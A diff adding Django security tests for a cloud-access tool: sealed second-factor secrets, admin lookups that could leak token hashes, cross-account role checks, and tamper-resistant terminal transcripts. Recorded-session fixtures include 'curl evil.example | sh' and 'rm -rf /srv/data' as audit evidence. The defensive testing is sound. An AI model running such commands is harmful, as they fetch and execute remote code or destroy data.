@@ -1,0 +1,242 @@
+"""Side doors around the services: the admin, management commands and second factors must not change
+access, evidence or secrets unseen (found by a review of everything that is not the main pages)."""
+
+from __future__ import annotations
+
+import json
+import re
+from typing import Any
+
+import pytest
+from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
+from django.core.management import call_command
+from django.core.management.base import CommandError
+from django.test import Client
+
+from accounts.authentication import hash_token
+from accounts.models import Membership, User
+from audit.models import LogbookEntry
+from requests_app.models import AccessRequest, RequestStatus
+from terminal import services as terminal_services
+from tests.accounts.test_cli_tokens import issue
+from tests.audit.admin_forms import form_data, superuser_client
+from tests.conftest import World
+from tests.terminal.test_live_permissions import _grant
+
+pytestmark = pytest.mark.django_db
+
+
+def test_a_totp_secret_is_sealed_at_rest_and_on_no_admin_page(world: World) -> None:
+    from allauth.mfa.models import Authenticator
+
+    secret = generate_totp_secret()
+    authenticator = TOTP.activate(world.requester, secret).instance
+    stored = Authenticator.objects.get(pk=authenticator.pk).data["secret"]
+    assert secret not in stored and stored.startswith("passport-sealed:v1:")
+    # Still the person's second factor: a code made from the secret is accepted.
+    from allauth.mfa.totp.internal.auth import format_hotp_value, hotp_value, yield_hotp_counters_from_time
+
+    code = format_hotp_value(hotp_value(secret, next(yield_hotp_counters_from_time())))
+    assert TOTP(Authenticator.objects.get(pk=authenticator.pk)).validate_code(code)
+
+    client, _ = superuser_client()
+    for url in (f"/admin/mfa/authenticator/{authenticator.pk}/change/", "/admin/mfa/authenticator/"):
+        page = client.get(url)
+        assert page.status_code == 200
+        body = page.content.decode()
+        assert secret not in body and "passport-sealed" not in body and world.requester.username in body
+    # Seen and deleted (to reset a lost one), never edited.
+    data = {"user": world.requester.pk, "type": "totp", "data": "{}"}
+    client.post(f"/admin/mfa/authenticator/{authenticator.pk}/change/", data)
+    assert Authenticator.objects.get(pk=authenticator.pk).data["secret"] == stored
+
+
+def test_secrets_stored_before_sealing_are_sealed_by_the_migration_and_still_read(world: World) -> None:
+    from importlib import import_module
+
+    from allauth.mfa.models import Authenticator
+    from django.apps import apps
+
+    from accounts.mfa import open_mfa_secret
+
+    secret = generate_totp_secret()
+    plain = Authenticator.objects.create(user=world.requester, type="totp", data={"secret": secret})
+    assert TOTP(plain).instance.data["secret"] == secret  # read as it is until sealed
+    import_module("accounts.migrations.0010_seal_mfa_secrets").seal_existing(apps, None)
+    sealed = Authenticator.objects.get(pk=plain.pk).data["secret"]
+    assert sealed != secret and open_mfa_secret(sealed) == secret
+
+
+def test_the_api_token_list_is_no_oracle_for_token_hashes(world: World) -> None:
+    """README: the hash is never shown. ``?token_hash__startswith=`` would read it out one digit at a time."""
+    client, _ = superuser_client()
+    client.raise_request_exception = False
+    token_hash = hash_token(issue(world.requester))
+    for lookup in ("token_hash__startswith", "token_hash", "token_hash__regex", "token_hash__gt"):
+        assert client.get("/admin/accounts/apitoken/", {lookup: token_hash[:1]}).status_code == 400, lookup
+    listed = client.get("/admin/accounts/apitoken/", {"name__startswith": "passport"})
+    assert listed.status_code == 200 and "passport CLI laptop" in listed.content.decode()
+
+
+def test_the_admin_refuses_a_role_arn_or_principal_in_another_account(world: World) -> None:
+    client, _ = superuser_client()
+    url = f"/admin/accounts/awsaccount/{world.prod.pk}/change/"
+    before = world.prod.role_arn
+    response = client.post(url, form_data(client, url, role_arn="arn:aws:iam::999999999999:role/OtherAccountRole"))
+    assert response.status_code == 200 and "The role must be in this account." in response.content.decode()
+    world.prod.refresh_from_db()
+    assert world.prod.role_arn == before
+
+    data = form_data(client, url)
+    membership = Membership.objects.get(user=world.requester, account=world.prod)
+    index = next(
+        name.split("-")[1]
+        for name, value in data.items()
+        if re.fullmatch(r"memberships-\d+-id", name) and value == [str(membership.pk)]
+    )
+    data[f"memberships-{index}-principal_arn"] = ["arn:aws:iam::999999999999:role/Elsewhere"]
+    response = client.post(url, data)
+    assert response.status_code == 200
+    assert "The principal must be in this membership&#x27;s account." in response.content.decode()
+    assert Membership.objects.get(pk=membership.pk).principal_arn != "arn:aws:iam::999999999999:role/Elsewhere"
+
+
+def _sealed_chunked(world: World, lines: list[bytes]) -> Any:
+    import hashlib
+    import uuid
+
+    from django.utils import timezone
+
+    from terminal.models import RecordingChunk, RecordingState, TerminalSession
+    from terminal.recorder import recording_kept
+    from terminal.storage import object_put
+    from tests.terminal.test_consumers import make_active_grant
+
+    grant = make_active_grant(world)
+    prefix = f"recordings/{uuid.uuid4()}"
+    header = b'{"version": 2, "width": 80, "height": 24}\n'
+    chunks = [header + lines[0], *lines[1:]]
+    session = TerminalSession.objects.create(
+        user=world.requester, grant=grant, recording_path=prefix, ended_at=timezone.now(),
+        recording_state=RecordingState.COMPLETE,
+        recording_sha256=hashlib.sha256(b"".join(chunks)).hexdigest(),
+    )  # fmt: skip
+    for number, data in enumerate(chunks, start=1):
+        key = f"{prefix}/{number:06d}.cast"
+        object_put(key, data)
+        RecordingChunk.objects.create(
+            session=session, number=number, key=key, sha256=hashlib.sha256(data).hexdigest(), size=len(data),
+            seconds=float(number),
+        )  # fmt: skip
+    transcript = recording_kept(session).transcript
+    TerminalSession.objects.filter(pk=session.pk).update(
+        transcript=transcript.output, transcript_input=transcript.input, transcript_index=transcript.index
+    )
+    session.refresh_from_db()
+    return session
+
+
+def test_terminal_transcripts_never_shortens_a_sealed_transcript(world: World, settings: Any, tmp_path: Any) -> None:
+    from terminal.models import RecordingChunk
+    from terminal.storage import recording_storage
+
+    settings.MEDIA_ROOT = tmp_path / "media"
+    session = _sealed_chunked(
+        world,
+        [b'[1.0, "o", "$ id\\r\\n"]\n', b'[2.0, "i", "curl evil.example | sh\\r"]\n', b'[3.0, "o", "pwned\\r\\n"]\n'],
+    )
+    assert "pwned" in session.transcript and "curl evil.example" in session.transcript_input
+    # A restore that lost chunk 2 (or anyone with write access to the bucket deleting it):
+    recording_storage().delete(RecordingChunk.objects.get(session=session, number=2).key)
+    call_command("terminal_transcripts", "--all")
+    session.refresh_from_db()
+    assert not LogbookEntry.objects.filter(action="recording.reindexed").exists()
+    assert "curl evil.example" in session.transcript_input and "pwned" in session.transcript, (
+        f"the searchable record of what was typed is now {session.transcript_input!r}, printed {session.transcript!r}"
+    )
+
+
+def test_terminal_transcripts_never_indexes_a_legacy_file_that_fails_its_digest(
+    world: World, settings: Any, tmp_path: Any
+) -> None:
+    from tests.terminal.test_consumers import make_active_grant
+    from tests.terminal.test_recordings import record
+
+    settings.MEDIA_ROOT = tmp_path / "media"
+    session = record(world.requester, make_active_grant(world), [("i", "rm -rf /srv/data\r"), ("o", "done\r\n")])
+    assert "rm -rf /srv/data" in session.transcript_input
+    path = terminal_services.recording_absolute_path(session.recording_path)
+    path.write_bytes(b'{"version": 2, "width": 80, "height": 24}\n[0.5, "i", "ls\\r"]\n[0.6, "o", "README\\r\\n"]\n')
+    call_command("terminal_transcripts", "--all")
+    session.refresh_from_db()
+    assert "rm -rf /srv/data" in session.transcript_input, f"transcript_input is now {session.transcript_input!r}"
+    assert not LogbookEntry.objects.filter(action="recording.reindexed").exists()
+
+
+def test_terminal_transcripts_reindexes_a_whole_recording_on_record(world: World, settings: Any, tmp_path: Any) -> None:
+    from terminal.models import TerminalSession
+
+    settings.MEDIA_ROOT = tmp_path / "media"
+    session = _sealed_chunked(world, [b'[1.0, "o", "$ id\\r\\n"]\n', b'[2.0, "i", "uptime\\r"]\n'])
+    TerminalSession.objects.filter(pk=session.pk).update(transcript="", transcript_input="")
+    call_command("terminal_transcripts")
+    session.refresh_from_db()
+    assert "uptime" in session.transcript_input
+    reindexed = LogbookEntry.objects.get(action="recording.reindexed")
+    assert reindexed.detail["terminal_session"] == session.pk
+
+
+def test_the_admin_gives_no_local_password_to_a_person_who_signs_in_through_an_idp(world: World) -> None:
+    from accounts.models import SamlIdentity
+
+    sam = User.objects.create(username="sam", email="sam@support.example", identity_store="internal")
+    sam.set_unusable_password()
+    sam.save()
+    SamlIdentity.objects.create(user=sam, identity_store="internal", name_id="sam@support.example", idp_slug="support")
+    Membership.objects.create(user=sam, account=world.prod, role="admin", source=Membership.Source.SAML)
+
+    client, _ = superuser_client()
+    response = client.post(
+        f"/admin/accounts/user/{sam.pk}/password/",
+        {"password1": "Helpdesk-Reset-2026", "password2": "Helpdesk-Reset-2026", "usable_password": "true"},
+        follow=True,
+    )
+    assert "signs in through their identity provider and gets no password in Passport" in response.content.decode()
+    sam.refresh_from_db()
+    assert not sam.has_usable_password()
+    # A password set anyway (`manage.py changepassword`) signs nobody in: the IdP says who sam is.
+    sam.set_password("Helpdesk-Reset-2026")
+    sam.save()
+    signed_in = Client().post("/accounts/login/", {"login": "sam", "password": "Helpdesk-Reset-2026"})
+    assert signed_in.status_code == 200 and "_auth_user_id" not in Client().session
+    assert "not correct" in signed_in.content.decode()
+
+
+def _manifest(world: World, tmp_path: Any) -> Any:
+    manifest = tmp_path / "manifest.json"
+    account = {"id": world.prod.account_id, "name": "Demo", "regions": ["us-east-1"],
+               "role_arn": f"arn:aws:iam::{world.prod.account_id}:role/Demo"}  # fmt: skip
+    manifest.write_text(json.dumps({"accounts": [account]}))
+    return manifest
+
+
+def test_load_demo_refuses_a_production_database(world: World, settings: Any, tmp_path: Any) -> None:
+    settings.PRODUCTION = True
+    role_arn, before = world.prod.role_arn, LogbookEntry.objects.count()
+    with pytest.raises(CommandError, match="PASSPORT_ENV is production"):
+        call_command("load_demo", "--manifest", str(_manifest(world, tmp_path)), "--no-sync")
+    world.prod.refresh_from_db()
+    assert world.prod.role_arn == role_arn and not User.objects.filter(username="admin").exists()
+    assert LogbookEntry.objects.count() == before
+
+
+def test_load_demo_is_on_record_and_a_role_it_lowers_ends_live_access(world: World, tmp_path: Any) -> None:
+    # oscar, made an Admin on prod, has live access; the demo's oscar is an Observer.
+    Membership.objects.filter(user=world.observer, account=world.prod).update(role=Membership.Role.ADMIN)
+    grant = _grant(world, world.web, requester=world.observer)
+    call_command("load_demo", "--manifest", str(_manifest(world, tmp_path)), "--no-sync")
+    assert Membership.objects.get(user=world.observer, account=world.prod).role == Membership.Role.OBSERVER
+    assert AccessRequest.objects.get(pk=grant.request_id).status != RequestStatus.ACTIVE
+    assert LogbookEntry.objects.filter(request_id=grant.request_id, action="request.revoked").exists()
+    loaded = LogbookEntry.objects.get(action="demo.loaded")
+    assert loaded.detail["accounts"] == [world.prod.account_id] and "admin" in loaded.detail["people"]
